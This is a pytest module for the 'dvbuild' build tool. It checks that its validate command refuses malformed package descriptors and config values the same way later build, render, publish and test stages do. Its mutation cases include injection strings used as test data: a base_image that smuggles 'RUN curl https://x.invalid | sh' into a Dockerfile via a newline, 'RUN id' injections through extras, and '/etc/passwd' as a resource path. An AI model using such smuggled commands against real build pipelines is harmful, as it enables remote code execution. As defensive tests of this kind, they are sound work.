"""`dvbuild validate` is the gate: what it passes, no later stage refuses for its input,
and what it refuses, a later stage would have refused too, at the same JSON pointer.

The mutation test takes the example monorepo, spoils one field of a descriptor or of
dvbuild.yaml at a time (the cases of issue #13, and generated ones: wrong types, empty
strings, line breaks, NUL, huge numbers, unicode, nested wrong shapes, missing keys) and
runs every stage that reads them: `build --dry-run`, `render`, `publish` of the
package's folder (with its resource files), and the test stage's pre-run check
(`validation_problems`; no notebook is run).
"""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from dvbuild.errors import DvbuildError
from dvbuild.notebooks.prepare import fresh_copy, validation_problems
from dvbuild.package import load_package, path_problem
from dvbuild.settings import load_settings
from tests.conftest import EXAMPLES, Repo, Result, git

PACKAGE = "packages/arbeidsledighet"  # scheduled, with job settings and two resources
PLAIN = "packages/befolkning"  # not scheduled
DESCRIPTOR = "datapackage.json"
CONFIG = "dvbuild.yaml"
Mutation = Callable[[dict[str, Any]], None]


# -- the stages ---------------------------------------------------------------------------

_WHERE = re.compile(r"(?P<file>\S*?(?:datapackage\.json|dvbuild\.yaml|\S))(?::\d+)*"
                    r"(?: (?P<pointer>/\S*?))?: ")


def _kind(file: str) -> str:
    return next((k for k in (DESCRIPTOR, CONFIG) if file.endswith(k)), "other")


def pointers(text: str) -> set[tuple[str, str]]:
    """(file kind, pointer) of each problem line in a command's output."""
    found = set()
    for line in text.splitlines():
        m = _WHERE.match(line.removeprefix("error: "))
        if m and _kind(m["file"]) != "other":
            found.add((_kind(m["file"]), m["pointer"] or ""))
    return found


@dataclass
class Verdict:
    refused: bool
    pointers: set[tuple[str, str]]
    output: str = ""


@dataclass
class Gate:
    repo: Repo
    cli: Callable[..., Result]
    scratch: Path
    wheel: Path

    @property
    def package(self) -> Path:
        return self.repo.path / PACKAGE

    def validate(self, rel: str) -> Verdict:
        res = self.cli("validate", "--json", "--repo", self.repo.path, self.repo.path / rel)
        if res.code != 2:
            return Verdict(False, set(), res.out + res.err)
        doc = res.json()
        return Verdict(True, {(_kind(p["file"]), p["pointer"]) for p in doc["problems"]},
                       res.out + res.err)

    def later(self, rel: str) -> dict[str, Verdict]:
        env = {"DVBUILD_WHEEL": str(self.wheel)}
        folder = self.repo.path / rel
        build = self.cli("build", "--dry-run", "--repo", self.repo.path, folder, env=env)
        render = self.cli("render", "--out", self.scratch / "manifests", "--repo",
                          self.repo.path, folder)
        publish = self._publish(rel)
        return {"build": _verdict(build), "render": _verdict(render), "publish": _verdict(publish),
                "test": self._test_stage(rel)}

    def _publish(self, rel: str) -> Result:
        """The package's folder as a run would leave it: its files, and its resources'."""
        out = self.scratch / "built" / Path(rel).name
        if not out.is_dir():
            shutil.copytree(self.repo.path / rel, out, symlinks=True)
        shutil.copy2(self.repo.path / rel / DESCRIPTOR, out / DESCRIPTOR)
        write_resource_files(out)
        store = (self.scratch / "store").as_uri()
        return self.cli("publish", out, "--store", store)

    def _test_stage(self, rel: str) -> Verdict:
        """`dvbuild test` up to the first kernel: settings, the package, its checks."""
        try:
            settings = load_settings(self.repo.path, environ={})
            package = load_package(self.repo.path / rel, settings.root)
            found = validation_problems(settings, package)
        except DvbuildError as e:
            return Verdict(True, pointers(str(e)), str(e))
        text = "\n".join(found)
        return Verdict(bool(found), pointers(text), text)


def _verdict(res: Result) -> Verdict:
    text = res.out + res.err
    return Verdict(res.code == 2, pointers(text) if res.code == 2 else set(), text)


def write_resource_files(folder: Path) -> None:
    """Every resource path a run could have written, written (CSV text will do: the
    stages look at paths, sizes and hashes; Parquet gets a real file)."""
    try:
        descriptor = json.loads((folder / DESCRIPTOR).read_text(encoding="utf-8"))
    except ValueError:
        return
    resources = descriptor.get("resources") if isinstance(descriptor, dict) else None
    for r in resources if isinstance(resources, list) else []:
        paths = r.get("path") if isinstance(r, dict) else None
        for rel in paths if isinstance(paths, list) else [paths]:
            if isinstance(rel, str) and path_problem(rel) is None and "://" not in rel:
                _write_data(folder / rel)


def _write_data(path: Path) -> None:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists():
            return
        if path.suffix == ".parquet":
            import pyarrow as pa
            import pyarrow.parquet as pq

            pq.write_table(pa.table({"a": [1, 2]}), path)
        else:
            path.write_text("a,b\n1,2\n", encoding="utf-8")
    except OSError:
        pass  # a path the file system will not take (too long, ...): publish says so


# -- the mutations ------------------------------------------------------------------------

# wrong types, empty, a line break, NUL, huge, unicode, a nested wrong shape
BAD_VALUES: list[Any] = [None, True, 10**30, "", "x\n", "a\x00b", "ünïcødé ✓",
                         {"a": {"b": [None]}}]
TOP_FIELDS = ("name", "title", "version", "keywords", "licenses", "schedule", "timezone",
              "parameters", "test_parameters", "timeout", "test_timeout", "job", "resources",
              "notebooks", "depends_on", "secrets", "reads", "docker")
NESTED = {  # path into the descriptor -> the values to try there
    ("job", "team"): BAD_VALUES,
    ("job", "namespace"): ["", "Bad Name", "x\n", 5],
    ("job", "resources"): BAD_VALUES,
    ("job", "resources", "cpu"): [True, -1, "", "lots", [1], {"a": 1}],
    ("job", "resources", "memory"): [True, "", "x\n", [1], 10**30],
    ("job", "env"): [[1], "x", {"A": {"b": 1}}, {"1A": "x"}, {"A": [1]}, {"A": "x\n"}],
    ("job", "backoff_limit"): [-1, "2", 1.5, 10**30, None],
    ("job", "ttl"): [-1, "7x", "", True, [1], 10**30],
    ("job", "concurrency_policy"): ["forbid", "Sometimes", 5, ""],
    ("job", "command"): ["run", [1], ["a", None], []],
    ("job", "env_from"): ["x", [""]],
    ("job", "outbound"): ["x", [1], [{"a": 1}], ["host:port"]],
    ("job", "webhook"): [{"url": "x"}, "https://hooks.invalid:abc/x"],
    ("job", "image_pull_secrets"): ["x", [1]],
    ("job", "image_pull_policy"): [5, "Sometimes"],
    ("job", "failed_jobs_history_limit"): [-1, "3"],
    ("resources", 0, "path"): ["", "x\n", "a\x00b.csv", "/etc/passwd", "../x.csv", ".",
                               "data/", "a\\b.csv", "http://example.invalid/x.csv", 5, [],
                               ["data/a.csv", "data/\x01.csv"], "data/ünï.csv"],
    ("resources", 0, "name"): ["", "Bad Name", "x\n", 5, None],
    ("resources", 0, "format"): [5, ""],
    ("resources", 0, "schema"): ["x", {"fields": "x"}, {"fields": [{"name": 5}]}, []],
    ("resources", 0): [None, "x", [], 5],
    ("secrets",): [{"A": "vault:kv/x"}, {"A": "env:"}, {"A": "env:B\n"}, {"1A": "env:B"},
                   {"A": 5}, {"A": "vault:kv/team/db#key"}],
    ("docker",): [{"base_image": "python:3.11-slim\nRUN curl https://x.invalid | sh"},
                  {"base_image": "Python:3"}, {"base_image": ""}, {"base_image": 5},
                  {"base_image": "python:3.12-slim"}, {"extras": ["evil"]}, {"extras": "s3"},
                  {"extras": ["s3]\nRUN id #"]}, {"extras": ["data", "sql"]}, {"extras": [5]},
                  {"base_image": "ghcr.io/org/base:1@sha256:" + "a" * 64}],
    ("schedule",): ["0\n0 * * *", "15 6 * * 1-5\n", "0\t6 * * *", "61 * * * *", "@reboot",
                    "0 0 30 2 *", "  15  6 * * 1-5 ", "@daily"],
    ("timezone",): ["posixrules", "localtime", "Factory", "posix/Europe/Oslo",
                    "right/UTC", "Europe/Oslo\n", "Etc/GMT+5", "Mars/Olympus", "UTC"],
    ("name",): ["arbeidsledighet\n", "p\n", "Arbeid", "befolkning"],
    ("version",): ["1.0.0\n", "1.0.0", "v1", "1..2", "1" * 65, "2026-03-30"],
    ("notebooks",): [["missing.ipynb"], ["ledighet.ipynb\n"], ["../x.ipynb"], "x", [5]],
}
CONFIG_KEYS = ("global", "ignore", "store", "catalog", "registry", "base_image", "naisjob",
               "vault", "sources")
CONFIG_CASES: list[tuple[str, Any]] = [
    ("base_image", "python:3.11-slim\nRUN curl https://x.invalid | sh"),
    ("base_image", "debian:12"), ("base_image", "not an image"), ("registry", "bad registry"),
    ("registry", "ghcr.io/team"), ("naisjob", {"namespace": "x"}), ("naisjob", {"team": ""}),
    ("naisjob", {"team": 5}), ("naisjob", {"team": "t", "resources": "lots"}),
    ("naisjob", {"team": "t", "env": {"A": {"b": 1}}}), ("sources", {"x": {}}),
    ("store", "s3://bucket/prefix"), ("catalog", "https://catalog.invalid"),
]


def _set(d: dict[str, Any], path: tuple[Any, ...], value: Any) -> None:
    node: Any = d
    for key in path[:-1]:
        if not isinstance(key, int) and not isinstance(node.get(key), dict | list):
            node[key] = {}
        node = node[key]
    node[path[-1]] = value


def _delete(key: str) -> Mutation:
    return lambda d: d.pop(key, None)


def _setter(path: tuple[Any, ...], value: Any) -> Mutation:
    return lambda d: _set(d, path, value)


def descriptor_cases() -> Iterator[tuple[str, str, Mutation]]:
    """(id, package, mutation): the issue's cases and generated ones."""
    for field in TOP_FIELDS:
        for i, value in enumerate(BAD_VALUES):
            yield f"{field}={i}", PACKAGE, _setter((field,), value)
    for path, values in NESTED.items():
        for i, value in enumerate(values):
            yield f"{'.'.join(map(str, path))}={i}", PACKAGE, _setter(path, value)
    for field in ("name", "resources", "schedule", "job"):
        yield f"-{field}", PACKAGE, _delete(field)
    for field, value in (("schedule", "0 6 * * *"), ("timezone", "posixrules")):
        yield f"plain.{field}={value!r}", PLAIN, _setter((field,), value)


# -- the test -----------------------------------------------------------------------------

@pytest.fixture
def gate(cli: Callable[..., Result], example_repo: Repo, tmp_path: Path) -> Gate:
    wheel = tmp_path / "dvbuild-0.0.0-py3-none-any.whl"  # the dry run only names it
    wheel.write_bytes(b"")
    return Gate(example_repo, cli, tmp_path / "scratch", wheel)


def _check(gate: Gate, case: str, rel: str) -> list[str]:
    """What is wrong with the gate for the repository as it is now ([] when it holds)."""
    before = gate.validate(rel)
    stages = gate.later(rel)
    wrong = [f"{case}: {name} printed a traceback" for name, v in
             [("validate", before), *stages.items()] if "Traceback" in v.output]
    refused = {name: v for name, v in stages.items() if v.refused}
    if before.refused and not refused:
        wrong.append(f"{case}: validate refused {sorted(before.pointers)}, no later stage did")
    if not before.refused and refused:
        wrong.append(f"{case}: validate passed, but " + "; ".join(
            f"{name} refused: {v.output.strip()[:300]}" for name, v in refused.items()))
    for name, v in refused.items():
        missing = v.pointers - before.pointers
        if before.refused and missing:
            wrong.append(f"{case}: {name} refused at {sorted(missing)}, validate did not "
                         f"(validate: {sorted(before.pointers)})")
    return wrong


def test_mutations_agree(gate: Gate) -> None:
    root = gate.repo.path
    texts = {rel: (root / rel / DESCRIPTOR).read_text(encoding="utf-8")
             for rel in (PACKAGE, PLAIN)}
    config = (root / CONFIG).read_text(encoding="utf-8")
    assert _check(gate, "unchanged", PACKAGE) == []
    wrong: list[str] = []
    count = 0
    for case, rel, mutate in descriptor_cases():
        descriptor = json.loads(texts[rel])
        mutate(descriptor)
        (root / rel / DESCRIPTOR).write_text(json.dumps(descriptor, indent=2), encoding="utf-8")
        wrong += _check(gate, case, rel)
        (root / rel / DESCRIPTOR).write_text(texts[rel], encoding="utf-8")
        count += 1
    import yaml

    base = yaml.safe_load(config)
    cases = [*CONFIG_CASES, *((key, v) for key in CONFIG_KEYS for v in (5, "x\n"))]
    for key, value in cases:
        (root / CONFIG).write_text(yaml.safe_dump({**base, key: value}), encoding="utf-8")
        wrong += _check(gate, f"{CONFIG}:{key}={value!r}", PACKAGE)
        count += 1
    (root / CONFIG).write_text(config, encoding="utf-8")
    assert not wrong, f"{len(wrong)} of {count} mutations disagree:\n" + "\n".join(wrong)


# -- the cases, one by one ---------------------------------------------------------

def _write(repo: Repo, rel: str, **changes: Any) -> None:
    path = repo.path / rel / DESCRIPTOR
    descriptor = json.loads(path.read_text(encoding="utf-8"))
    descriptor.update(changes)
    path.write_text(json.dumps(descriptor, indent=2), encoding="utf-8")


def test_scheduled_package_without_a_team(gate: Gate) -> None:
    config = gate.repo.path / CONFIG
    config.write_text(config.read_text(encoding="utf-8").replace("  team: dataplattform\n", ""),
                      encoding="utf-8")
    res = gate.cli("validate", "--json", "--repo", gate.repo.path)
    found = {(p["file"], p["pointer"], p["message"]) for p in res.json()["problems"]}
    assert res.code == 2
    assert (f"{PACKAGE}/{DESCRIPTOR}", "/job/team", "no team for the Naisjob") in found
    assert (f"{PLAIN}/{DESCRIPTOR}", "/job/team", "no team for the Naisjob") not in found
    render = gate.cli("render", "--out", gate.scratch, "--repo", gate.repo.path)
    assert render.code == 2 and f"{PACKAGE}/{DESCRIPTOR} /job/team: no team" in render.err


@pytest.mark.parametrize(("field", "value", "fragment"), [
    ("schedule", "0\n0 * * *", "holds '\\n'"),
    ("schedule", "15 6 * * 1-5\n", "holds '\\n'"),
    ("timezone", "posixrules", "is not an IANA zone name"),
    ("timezone", "localtime", "is not an IANA zone name"),
    ("timezone", "Factory", "is not an IANA zone name"),
])
def test_schedules_render_refuses_are_refused(gate: Gate, field: str, value: str,
                                              fragment: str) -> None:
    _write(gate.repo, PACKAGE, **{field: value})
    res = gate.cli("validate", "--json", "--repo", gate.repo.path, gate.package)
    [problem] = res.json()["problems"]
    assert (res.code, problem["pointer"]) == (2, f"/{field}") and fragment in problem["message"]
    render = gate.cli("render", "--out", gate.scratch, "--repo", gate.repo.path, gate.package)
    assert render.code == 2 and f"/{field}: " in render.err and fragment in render.err


@pytest.mark.parametrize(("field", "value"), [("name", "p\n"), ("version", "1.0.0\n")])
def test_trailing_newline_in_name_or_version(gate: Gate, field: str, value: str) -> None:
    _write(gate.repo, PACKAGE, **{field: value})
    res = gate.cli("validate", "--json", "--repo", gate.repo.path, gate.package)
    assert res.code == 2 and [p["pointer"] for p in res.json()["problems"]] == [f"/{field}"]
    published = gate._publish(PACKAGE)
    assert published.code == 2 and f"/{field}: {field} is {value!r}" in published.err
    tested = gate.cli("test", "--out", gate.scratch / "out", "--repo", gate.repo.path, gate.package)
    assert tested.code == 2 and f"/{field}" in tested.out + tested.err
    assert not (gate.scratch / "out" / "arbeidsledighet" / "report.json").exists() \
        or json.loads((gate.scratch / "out/arbeidsledighet/report.json").read_text())[
            "status"] == "invalid"


@pytest.mark.parametrize("path", ["data/a\x00b.csv", "data/a\nb.csv", "data/\x1b[31m.csv"])
def test_control_characters_in_a_resource_path(gate: Gate, path: str) -> None:
    descriptor = json.loads((gate.repo.path / PACKAGE / DESCRIPTOR).read_text())
    descriptor["resources"][0]["path"] = path
    _write(gate.repo, PACKAGE, resources=descriptor["resources"])
    res = gate.cli("validate", "--json", "--repo", gate.repo.path, gate.package)
    [problem] = res.json()["problems"]
    assert problem["pointer"] == "/resources/0/path"
    assert "holds a control character" in problem["message"]
    published = gate._publish(PACKAGE)
    assert published.code == 2 and "/resources/0/path: path" in published.err
    assert "holds a control character" in published.err and "Traceback" not in published.err
    settings = load_settings(gate.repo.path, environ={})
    found = validation_problems(settings, load_package(gate.repo.path / PACKAGE, settings.root))
    assert any("/resources/0/path" in p and "control character" in p for p in found)


@pytest.mark.parametrize(("docker", "pointer"), [
    ({"base_image": "python:3.11-slim\nRUN curl https://x.invalid | sh"}, "/docker/base_image"),
    ({"base_image": "python:3.11-slim RUN id"}, "/docker/base_image"),
    ({"extras": ["s3", "evil"]}, "/docker/extras/1"),
    ({"extras": ["s3]\nRUN id #"]}, "/docker/extras/0"),
    ({"extras": "s3"}, "/docker/extras"),
    ("python:3.12", "/docker"),
])
def test_image_settings_are_checked(gate: Gate, docker: Any, pointer: str) -> None:
    _write(gate.repo, PACKAGE, docker=docker)
    res = gate.cli("validate", "--json", "--repo", gate.repo.path, gate.package)
    assert res.code == 2 and [p["pointer"] for p in res.json()["problems"]] == [pointer]
    build = gate.cli("build", "--dry-run", "--repo", gate.repo.path, gate.package,
                     env={"DVBUILD_WHEEL": str(gate.wheel)})
    assert build.code == 2 and f"{pointer}: " in build.err and "RUN" not in build.out


def test_base_image_in_dvbuild_yaml(gate: Gate) -> None:
    config = gate.repo.path / CONFIG
    config.write_text(config.read_text() + 'base_image: "python:3.11\\nRUN id"\n')
    res = gate.cli("validate", "--json", "--repo", gate.repo.path)
    assert res.code == 2
    assert [(p["file"], p["pointer"]) for p in res.json()["problems"]] == [(CONFIG, "/base_image")]
    build = gate.cli("build", "--dry-run", "--repo", gate.repo.path, gate.package,
                     env={"DVBUILD_WHEEL": str(gate.wheel)})
    assert build.code == 2 and "dvbuild.yaml:" in build.err and "/base_image" in build.err
    config.write_text(config.read_text().replace('base_image: "python:3.11\\nRUN id"\n', ""))
    from_env = gate.cli("build", "--dry-run", "--repo", gate.repo.path, gate.package,
                        env={"DVBUILD_WHEEL": str(gate.wheel), "DVBUILD_BASE_IMAGE": "a b"})
    assert from_env.code == 2 and "base_image 'a b' is not an image reference" in from_env.err


@pytest.mark.parametrize("make_links", ["self", "pair", "outside"])
def test_symlink_loops_are_refused_and_never_copied(gate: Gate, make_links: str) -> None:
    folder = gate.repo.path / PACKAGE
    if make_links == "self":
        os.symlink(".", folder / "loop")  # loop/loop/loop/...
        bad = {"loop"}
    elif make_links == "pair":
        (folder / "a").mkdir()
        (folder / "c").mkdir()
        os.symlink("../c", folder / "a/b")  # a/b/d/b/d/...
        os.symlink("../a", folder / "c/d")
        bad = {"a/b", "c/d"}
    else:
        os.symlink(gate.repo.path / "shared", folder / "shared")
        bad = {"shared"}
    res = gate.cli("validate", "--json", "--repo", gate.repo.path, gate.package)
    assert res.code == 2
    assert {p["file"] for p in res.json()["problems"]} == {f"{PACKAGE}/{b}" for b in bad}
    settings = load_settings(gate.repo.path, environ={})
    package = load_package(folder, settings.root)
    assert any(f"{PACKAGE}/{b}" in p for p in validation_problems(settings, package) for b in bad)
    with pytest.raises(DvbuildError, match="symbolic link"):
        fresh_copy(package, gate.scratch / "out")
    assert not (gate.scratch / "out" / package.name).exists()
    tested = gate.cli("test", "--out", gate.scratch / "out", "--repo", gate.repo.path, gate.package)
    assert tested.code == 2 and "symbolic link" in tested.out + tested.err
    assert "Traceback" not in tested.out + tested.err


def test_links_inside_the_folder_still_copy(gate: Gate) -> None:
    folder = gate.repo.path / PACKAGE
    os.symlink("input", folder / "alias")
    git(gate.repo.path, "status")  # the link is an ordinary untracked file to git
    settings = load_settings(gate.repo.path, environ={})
    package = load_package(folder, settings.root)
    assert validation_problems(settings, package) == []
    copy = fresh_copy(package, gate.scratch / "out")
    assert sorted(p.name for p in (copy / "alias").iterdir()) == sorted(
        p.name for p in (folder / "input").iterdir())


@pytest.mark.parametrize(("job", "pointer"), [
    ({"outbound": [{"host": "x"}]}, "/job/outbound"),  # crashed render (ValueError)
    ({"outbound": ["host:port"]}, "/job/outbound"),
    ({"webhook": {"url": "x"}}, "/job/webhook"),
])
def test_job_hosts_are_checked_not_crashed_on(gate: Gate, job: dict[str, Any],
                                              pointer: str) -> None:
    _write(gate.repo, PACKAGE, job=job)
    res = gate.cli("validate", "--json", "--repo", gate.repo.path, gate.package)
    assert res.code == 2 and [p["pointer"] for p in res.json()["problems"]] == [pointer]
    render = gate.cli("render", "--out", gate.scratch, "--repo", gate.repo.path, gate.package)
    assert render.code == 2 and f"{pointer}: " in render.err


def test_example_passes_every_stage(gate: Gate) -> None:
    assert EXAMPLES.is_dir()
    assert _check(gate, "unchanged", PLAIN) == []
